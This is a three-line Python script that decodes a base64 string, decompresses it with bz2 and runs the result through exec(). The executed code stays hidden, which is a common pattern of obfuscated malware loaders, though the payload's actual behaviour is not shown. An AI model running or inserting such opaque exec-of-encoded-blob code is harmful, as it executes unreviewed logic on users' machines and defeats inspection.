import base64
import bz2

exec(bz2.decompress(base64.b64decode("QlpoOTFBWSZTWWxU1rEAAD7RgAAQQOAvb9wAIABUZ/6pRo0YgMhX+qoAek0YRqwsiSFXbRD5NhRsq6VXXZqLSTTQ7dMJrrOVlWjNVNC7xRskwjJ+LuSKcKEg2KmtYg==")))
